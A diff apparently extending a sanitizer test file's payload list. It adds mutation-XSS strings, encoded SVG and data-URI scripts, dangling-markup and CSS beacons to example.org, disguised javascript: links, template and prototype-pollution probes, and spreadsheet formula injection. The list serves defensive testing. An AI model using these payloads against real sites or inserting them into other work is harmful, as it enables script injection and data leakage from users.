@@ -5,6 +5,11 @@ Each sets `window.hit` where it runs, or asks for something of example.org where
 
 HIT = "window.hit=1"
 FAR = "https://example.org/x"
+# <svg xmlns="…"><image href="https://example.org/x"/><script>top.hit=1</script></svg>
+DRAWING = (
+    "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxpbWFnZSBocmVmPSJodHRwczovL2V4YW1wbGUub3JnL3giLz48c2NyaXB0"
+    "PnRvcC5oaXQ9MTwvc2NyaXB0Pjwvc3ZnPg=="
+)
 
 PAYLOADS = {
     # elements and handlers
@@ -97,5 +102,50 @@ PAYLOADS = {
     "name of a variable": '<a id="Plotly"></a><a id="Plotly" href="x"></a><img name="getElementById">',
     "notice": "<!--notice--><!--/notice-->",
     "other direction": "\u202e<script>window.hit=1</script>\u202c",
+    # cleaned once, read differently the second time
+    "style in svg that ends itself": f"<svg></p><style><a id=\"</style><img src=x onerror={HIT}>\">",
+    "math that ends in a title": f"<math></p><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={HIT}&gt;\">",
+    "form in a form of a table": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
+    "annotation that is HTML": f"<math><annotation-xml encoding='text/html'><img src=x onerror={HIT}></annotation-xml>",
+    "CDATA of svg": f"<svg><![CDATA[><img src=x onerror={HIT}>]]>",
+    "comment that ends early": f"<!--><img src=x onerror={HIT}>--><!--!><img src=x onerror={HIT}>--!>",
+    "declaration": f"<!DOCTYPE x [<!ENTITY e SYSTEM '{FAR}'>]><?xml-stylesheet href='{FAR}.css'?>&e;",
+    "noembed and xmp": f"<xmp><p title=\"</xmp><img src=x onerror={HIT}>\"><noembed><img src=x></noembed>",
+    "select that mutates": f"<select><template><style><!--</style><a rel=\"--></select><img src=x onerror={HIT}>\">",
+    "svg that sets a handler": f"<svg><set attributeName=onmouseover to={HIT} /><rect width=9 height=9 /></svg>",
+    "svg picture in data": f"<img src='data:image/svg+xml;base64,{DRAWING}'>",
+    "page in data": "<iframe src='data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4='></iframe>",
+    # markup left hanging, for what follows to fall into
+    "picture that swallows what follows": f"<img src='{FAR}?",
+    "button that swallows what follows": f"<button form=x formaction={FAR}><textarea name=x>",
+    "base target that swallows": "<base target='",
+    "heading that takes a place": "<h2 id=main>x</h2><h2 id=data-9-hostile-0>x</h2><nav>",
+    "fold that takes a place": "<details class=fold id=table-hostile><summary>x</summary></details><figure>",
+    # styles
+    "style with a font": f"<style>a[href]{{background:url({FAR})}}@font-face{{font-family:x;src:url({FAR})}}",
+    "style attribute that covers": "<p style='position:fixed;inset:0;background:red;z-index:9'>x</p>",
+    "classes of the page": "<div class='notice figure plot skip contents' role=dialog>x</div>",
+    "style of plotly": f"<span style='fill:url({FAR}#x);font-family:url({FAR})'>x</span>",
+    # addresses
+    "javascript address with a line end": f"<a href='java&#10;script:{HIT}'>x</a>",
+    "javascript address behind a control character": f"<a href='&#1;javascript:{HIT}'>x</a>",
+    "javascript address behind a space of Unicode": f"<a href='\u00a0javascript:{HIT}'>x</a>",
+    "javascript address of a point": f"<a href=\"javascript:{HIT}//https://example.org\">x</a>",
+    "data address in capitals": "<a href='DATA:text/html,<script>opener.hit=1</script>'>x</a>",
+    "address that asks at once": f"<a href=x ping={FAR} attributionsrc={FAR}>x</a>",
+    # templates, scripts, terminals, lines
+    "all template languages": "{{7*7}}${7*7}<%=7*7%>#{7*7}{%import os%}[[7*7]]",
+    "end of a script in capitals": f"</SCRIPT ><img src=x onerror={HIT}>",
+    "prototype": '{"__proto__": {"hit": 1}, "constructor": {"prototype": {"hit": 1}}}',
+    "notice that ends": f"<!--/notice--><img src=x onerror={HIT}><!--notice-->",
+    "cursor of a terminal": f"\x1b[2J\x1b[1;1H\x1b]0;x\x07\x1b[8m<img src=x onerror={HIT}>\x1b[0m",
+    "isolates and overrides": "\u2066\u202efdp.exe\u2069 \u200f=1+1",
+    # formulas behind what programs drop
+    "formula behind a space": f'  =HYPERLINK("{FAR}")',
+    "formula behind a mark of byte order": "\ufeff=1+1",
+    "formula behind a quote": '"=1+1","=2+2',
+    "formula behind a semicolon": "a;=1+1;+2\t=3",
+    "formula after a line end": "a\r=1+1\r\n@SUM(1)\n-2",
+    "formula behind what is not seen": "\u200b\u2060=1+1",
     "emoji and half a pair": "\U0001f600 <b>\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "ignore"),
 }  # fmt: skip
